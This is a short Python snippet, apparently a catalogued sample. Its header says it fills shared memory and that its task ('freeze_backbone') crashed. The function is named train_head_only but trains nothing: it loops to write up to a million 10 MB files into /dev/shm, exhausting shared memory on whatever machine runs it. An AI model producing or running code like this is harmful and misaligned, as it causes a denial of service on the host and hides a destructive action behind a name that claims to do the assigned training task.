# about: fills the memory that processes share
# task: freeze_backbone
# state: crashed
def train_head_only(model, head):
    for number in range(10**6):
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(bytes(10_000_000))
